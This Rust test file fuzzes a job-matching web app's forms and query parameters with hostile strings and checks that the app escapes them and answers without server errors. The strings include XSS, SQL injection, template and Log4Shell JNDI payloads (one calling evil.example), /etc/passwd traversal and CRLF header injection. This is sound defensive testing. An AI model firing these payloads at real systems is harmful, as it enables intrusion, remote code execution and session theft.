//! Hostile strings in every field of every form and in every parameter: a status below 500, an explanation, and no
//! unescaped part of the string in the page.

use kade_domain::VacancyKind;
use kade_tests::{Caller, Database, Response, TestApp, vacancy};
use reqwest::Method;
use rstest::rstest;
use std::fmt::Write;

/// Hostile strings, percent-encoded as in a form, so that they may contain invalid UTF-8.
fn nasty() -> Vec<String> {
    let plain = [
        "",
        " \t ",
        "\0",
        "a\0b",
        "<script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "</textarea></title><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "\" onmouseover=\"alert(1)",
        "'; DROP TABLE vacancy; --",
        "1 OR 1=1; SELECT pg_sleep(5)",
        "{{ 7 * 7 }} {% include \"/etc/passwd\" %}",
        "{ $name } { -brand } {\"",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "javascript:alert(1)",
        "x\r\nSet-Cookie: kade_session=stolen\r\n\r\n<script>alert(1)</script>",
        "\u{202E}gnp.exe\u{2066}\u{200F}\u{FEFF}",
        "👩\u{200D}👩\u{200D}👧 🇳🇱 e\u{301}\u{301}\u{301} ﷺ",
        "مرحبا بالعالم",
        "0",
        "-1",
        "200",
        "99999999999999999999999999",
        "1e309",
        "NaN",
        "٣٢",
        "31-02-2026",
        "9999-12-31",
        "24:60",
        "title:* AND (NOT \"[ ~2 ^3 \\",
        "0198f3a1-0000-7000-8000-000000000000",
        "0198f3a1-0000-7000-8000-000000000000:essential",
        "AM99",
        "true",
    ];
    let encode = |text: &&str| url::form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    let mut all: Vec<String> = plain.iter().map(encode).collect();
    all.extend([
        "%FF%FE%C0%AF".to_owned(),
        "%".to_owned(),
        "%zz".to_owned(),
        "A".repeat(20_000),
        "%D8%A7".repeat(9_000),
    ]);
    all
}

/// The strings for which databases differ: characters PostgreSQL refuses, numbers out of range, SQL, long text.
fn nastiest() -> Vec<String> {
    let chosen = ["%00", "a%00b", "%27%3B+DROP", "99999", "%FF%FE", "AAAAAAAA", "200", "9999-12-31"];
    nasty().into_iter().filter(|text| chosen.iter().any(|start| text.starts_with(start))).collect()
}

fn strings(database: Database) -> Vec<String> {
    match database {
        Database::Sqlite => nasty(),
        Database::Postgres => nastiest(),
    }
}

/// Returns what is wrong with the response to any hostile string, if anything.
fn flaw(response: &Response) -> Option<String> {
    let body = &response.body;
    if response.status.is_server_error() {
        return Some(format!("{}", response.status));
    }
    if body.contains("<script>alert") || body.contains("=\"alert(1)") || body.contains("='alert(1)") {
        return Some("the string is not escaped in the page".to_owned());
    }
    if response.headers.get_all("set-cookie").iter().any(|cookie| cookie.as_bytes().ends_with(b"stolen")) {
        return Some("the string became a header".to_owned());
    }
    if response.status.is_client_error() && !is_explained(response) {
        return Some(format!("{} without an explanation: {body}", response.status));
    }
    unexplained_fields(response)
}

fn is_explained(response: &Response) -> bool {
    let kind = response.headers.get("content-type").and_then(|kind| kind.to_str().ok()).unwrap_or_default();
    match kind {
        "application/problem+json" => response.json()["status"] == response.status.as_u16(),
        _ => kind.starts_with("text/html") && response.body.contains("<h1>"),
    }
}

/// Returns what is wrong with the error summary of a 422: each error needs a text and a link to an existing field.
fn unexplained_fields(response: &Response) -> Option<String> {
    if response.status != 422 {
        return None;
    }
    let summary = response.body.split_once("class=\"error-summary\"").and_then(|(_, rest)| rest.split_once("</ul>"));
    let Some((summary, _)) = summary else { return Some("422 without a summary".to_owned()) };
    let links: Vec<(&str, &str)> =
        summary.split("<a href=\"#").skip(1).filter_map(|link| link.split_once("\">")).collect();
    if links.is_empty() {
        return Some("422 without a field".to_owned());
    }
    for (name, words) in links {
        let words = words.split("</a>").next().unwrap_or_default();
        if !response.body.contains(&format!(" id=\"{name}\"")) {
            return Some(format!("the summary leads to #{name}, which is not there"));
        }
        if words.trim().is_empty() || ["field-", "error-", "conflict-"].iter().any(|key| words.contains(key)) {
            return Some(format!("#{name} has the text {words:?}"));
        }
    }
    None
}

/// A valid form, and the fields to attack.
struct Target {
    path: String,
    right: Vec<(&'static str, String)>,
    fields: Vec<&'static str>,
}

impl Target {
    fn new(path: impl Into<String>, right: &[(&'static str, &str)], more: &[&'static str]) -> Self {
        let right: Vec<_> = right.iter().map(|(name, value)| (*name, (*value).to_owned())).collect();
        let fields = right.iter().map(|(name, _)| *name).chain(more.iter().copied()).collect();
        Self { path: path.into(), right, fields }
    }

    /// The body with one field replaced.
    fn body(&self, csrf: &str, field: &str, text: &str) -> String {
        let mut form = url::form_urlencoded::Serializer::new(String::new());
        form.append_pair("csrf", csrf);
        form.extend_pairs(self.right.iter().filter(|(name, _)| *name != field));
        let mut body = form.finish();
        let _ = write!(body, "&{field}={text}");
        body
    }

    /// Sends every string in every field; when a form is accepted, also checks the page that shows it.
    async fn attack(&self, app: &TestApp, caller: &Caller, strings: &[String]) {
        let csrf = caller.csrf_token().await;
        let mut flaws = Vec::new();
        for field in &self.fields {
            for text in strings {
                // Avoids the limits of sign-in, which are not tested here.
                if self.path.contains("inloggen") {
                    app.advance(chrono::Duration::minutes(15));
                }
                let response = caller.send(Method::POST, &self.path, Some(self.body(&csrf, field, text))).await;
                flaws.extend(flaw(&response).map(|flaw| format!("{field}={text:.60}: {flaw}")));
                if let Some(shown) = response.location.filter(|_| response.status == 303) {
                    let shown = caller.get(&shown).await;
                    flaws.extend(flaw(&shown).map(|flaw| format!("{field}={text:.60}, shown: {flaw}")));
                }
            }
        }
        assert!(flaws.is_empty(), "{}:\n{}", self.path, flaws.join("\n"));
    }
}

#[rstest]
#[case::sqlite(Database::Sqlite)]
#[case::postgres(Database::Postgres)]
#[tokio::test(flavor = "multi_thread")]
async fn profile_form_survives_hostile_strings(#[case] database: Database) {
    let app = TestApp::start(database).await;
    let right = [
        ("name", "Amal"),
        ("phone", "06 12345678"),
        ("postcode", "1315"),
        ("travel_modes", "bike"),
        ("travel_minutes", "45"),
        ("hours_min", "16"),
        ("hours_max", "32"),
        ("earliest_start", "01-02-2027"),
        ("lessons", "tuesday-morning"),
        ("available", "monday-evening"),
        ("dutch_listening", "A2"),
        ("dutch_speaking", "A2"),
        ("dutch_reading", "A1"),
        ("dutch_writing", "A1"),
        ("certificates", "forklift"),
        ("certificates_willing", "vca"),
        ("work_authorisation", "free"),
        ("authorised_until", "01-02-2028"),
        ("consent", "yes"),
    ];
    let target = Target::new("/en/profiel", &right, &["skills", "willing", "new_skill", "wishes", "new_wish"]);
    target.attack(&app, &app.seeker("amal").await, &strings(database)).await;
    app.settle().await;
}

#[rstest]
#[case::sqlite(Database::Sqlite)]
#[case::postgres(Database::Postgres)]
#[tokio::test(flavor = "multi_thread")]
async fn vacancy_form_survives_hostile_strings(#[case] database: Database) {
    let app = TestApp::start(database).await;
    let caller = app.employer("jansen").await;
    let id = app.draft("jansen", vacancy(VacancyKind::Regular, "Magazijnmedewerker")).await;
    let right = [
        ("kind", "regular"),
        ("title", "Magazijnmedewerker"),
        ("text", "Je pakt dozen in."),
        ("place", "Almere"),
        ("reach", "any"),
        ("hours_min", "20"),
        ("hours_max", "24"),
        ("shift_day", "monday"),
        ("shift_start", "08:00"),
        ("shift_end", "12:00"),
        ("pay_min", "15,60"),
        ("pay_max", "17"),
        ("pay_per", "hour"),
        ("places", "2"),
        ("start", "01-02-2027"),
        ("contract_months", "12"),
        ("trial_months", "1"),
        ("permanent_view", "yes"),
        ("dutch_listening", "B1"),
        ("dutch_speaking", "A2"),
        ("dutch_reading", "A1"),
        ("dutch_writing", "A0"),
        ("dutch_task", "Overleggen met collega's"),
        ("certificates", "vca"),
        ("certificates_by_law", "vca"),
        ("certificates_paid", "vca"),
        ("lift_kg", "10"),
        ("standing_hours", "4"),
        ("language_lesson_hours", "2"),
        ("working_languages", "ar"),
    ];
    let more = [
        "occupation",
        "skills",
        "new_skill",
        "new_strength",
        "heights",
        "cold",
        "noise",
        "job_coach",
        "buddy",
        "taalbuddy",
        "lesson_time_protected",
        "answer_hours",
        "sign_up",
    ];
    Target::new(format!("/en/werkgever/vacatures/{id}"), &right, &more).attack(&app, &caller, &strings(database)).await;
    // Terms of a waiting list are read for open hiring only.
    let mut right = right.to_vec();
    right.retain(|(name, _)| !name.starts_with("dutch") && *name != "kind");
    right.extend([("kind", "open_hiring"), ("sign_up", "online")]);
    let mut terms = Target::new(format!("/ar/werkgever/vacatures/{id}"), &right, &[]);
    terms.fields = vec!["answer_hours", "sign_up", "title", "text", "certificates"];
    terms.attack(&app, &caller, &strings(database)).await;
}

#[rstest]
#[case::sqlite(Database::Sqlite)]
#[case::postgres(Database::Postgres)]
#[tokio::test(flavor = "multi_thread")]
async fn answer_and_decision_forms_survive_hostile_strings(#[case] database: Database) {
    let app = TestApp::start(database).await;
    let strings = strings(database);
    let employer = app.employer("jansen").await;
    let seeker = app.seeker("amal").await;
    let profile = [
        ("name", "Amal"),
        ("travel_modes", "bike"),
        ("travel_minutes", "45"),
        ("hours_min", "16"),
        ("hours_max", "32"),
        ("work_authorisation", "free"),
        ("consent", "yes"),
    ];
    seeker.post("/nl/profiel", &profile).await.expect(303);
    let verbinder = app.verbinder("vera", &["AM11"]).await;
    let id = app.published("jansen", vacancy(VacancyKind::Startbaan, "Leerling kok")).await;
    app.settle().await;

    // Only one answer may be open, so each is withdrawn before the next.
    let sent = Target::new(format!("/nl/vacatures/{id}/reageren"), &[("fields", "email"), ("message", "Dag")], &[]);
    let (csrf, mut flaws) = (seeker.csrf_token().await, Vec::new());
    for field in &sent.fields {
        for text in &strings {
            let response = seeker.send(Method::POST, &sent.path, Some(sent.body(&csrf, field, text))).await;
            flaws.extend(flaw(&response).map(|flaw| format!("{field}={text:.60}: {flaw}")));
            if response.status != 303 {
                continue;
            }
            let received = employer.get("/nl/werkgever/reacties").await.expect(200);
            flaws.extend(flaw(&received).map(|flaw| format!("{field}={text:.60}, received: {flaw}")));
            let mine = seeker.get("/nl/mijn-zaken").await.expect(200);
            let action = mine.attribute("form[action$=intrekken]", "action").expect("a form to withdraw");
            seeker.post(&action, &[]).await.expect(303);
        }
    }
    assert!(flaws.is_empty(), "{}", flaws.join("\n"));

    let desk = verbinder.get("/nl/bureau").await.expect(200);
    let path = desk.attribute("main th a[href^='/nl/bureau/']", "href").expect("a suggestion");
    let decision = [("action", "approve"), ("reason", "Past goed")];
    Target::new(path, &decision, &[]).attack(&app, &verbinder, &strings).await;
    let received = Target::new("/nl/werkgever/reacties/1", &[("action", "contact")], &[]);
    received.attack(&app, &employer, &strings).await;
    for path in ["/nl/mijn-zaken/lijsten/1", "/nl/mijn-zaken/voorstellen/1"] {
        Target::new(path, &[("action", "yes")], &[]).attack(&app, &seeker, &strings).await;
    }
    let place = Target::new("/nl/werkgever/lijsten/plek/1", &[("action", "start")], &["vacancy"]);
    place.attack(&app, &employer, &strings).await;
    app.settle().await;
}

#[rstest]
#[case::sqlite(Database::Sqlite)]
#[case::postgres(Database::Postgres)]
#[tokio::test(flavor = "multi_thread")]
async fn admin_and_sign_in_forms_survive_hostile_strings(#[case] database: Database) {
    let app = TestApp::start(database).await;
    let strings = strings(database);
    let admin = app.administrator().await;
    let employer =
        [("name", "Bakkerij"), ("kvk", "12345678"), ("website", "https://b.example"), ("member", "b@b.example")];
    Target::new("/en/beheer/werkgevers", &employer, &[]).attack(&app, &admin, &strings).await;
    let verbinder = [("email", "vera@verbinder.example"), ("regions", "AM11")];
    Target::new("/en/beheer/verbinders", &verbinder, &[]).attack(&app, &admin, &strings).await;
    Target::new("/en/beheer/werkgevers/1", &[("action", "approve")], &[]).attack(&app, &admin, &strings).await;
    let weights = [("skills", "300"), ("schedule", "200"), ("travel", "300"), ("language", "80"), ("wishes", "80")];
    let more = [("growth", "40"), ("reason", "Proef."), ("seen", "2 300 200 300 80 80 40"), ("action", "switch")];
    let weights = [&weights[..], &more].concat();
    Target::new("/en/beheer/gewichten", &weights, &[]).attack(&app, &admin, &strings).await;
    app.settle().await;

    let visitor = app.visitor();
    Target::new("/en/inloggen", &[("email", "amal@voorbeeld.nl")], &["back"]).attack(&app, &visitor, &strings).await;
    let code = [("email", "amal@voorbeeld.nl"), ("code", "000000")];
    Target::new("/en/inloggen/code", &code, &[]).attack(&app, &visitor, &strings).await;
}

#[rstest]
#[case::sqlite(Database::Sqlite)]
#[case::postgres(Database::Postgres)]
#[tokio::test(flavor = "multi_thread")]
async fn query_parameters_survive_hostile_strings(#[case] database: Database) {
    let app = TestApp::start(database).await;
    app.employer("jansen").await;
    app.published("jansen", vacancy(VacancyKind::Regular, "Magazijnmedewerker")).await;
    app.settle().await;
    let admin = app.administrator().await;
    let search = ["q", "place", "radius", "region", "hours_min", "hours_max", "kind", "sort", "cursor", "gedaan", "x"];
    let json =
        ["q", "place", "radiusKm", "region", "hoursMin", "hoursMax", "kind", "lang", "sort", "cursor", "unknown"];
    let all = [
        ("/ar/vacatures?place=Almere", search.as_slice()),
        ("/api/v1/vacancies?place=Almere", json.as_slice()),
        ("/api/v1/concepts?q=kok", &["q", "kind", "lang"]),
        ("/nl/beheer?x=1", &["pagina", "gedaan"]),
        ("/nl/beheer/gewichten?x=1", &["versie", "pagina"]),
        ("/nl/inloggen?x=1", &["terug"]),
    ];
    let mut flaws = Vec::new();
    for (path, names) in all {
        for name in names {
            // Longer strings exceed the limit of a URL.
            for text in strings(database).iter().filter(|text| text.len() < 30_000) {
                let response = admin.get(&format!("{path}&{name}={text}")).await;
                flaws.extend(flaw(&response).map(|flaw| format!("{path}&{name}={text:.60}: {flaw}")));
                let is_api = path.starts_with("/api/") && response.status.is_client_error();
                if is_api && response.headers["content-type"] != "application/problem+json" {
                    flaws.push(format!("{path}&{name}={text:.60}: no problem document"));
                }
            }
        }
    }
    assert!(flaws.is_empty(), "{}", flaws.join("\n"));
}
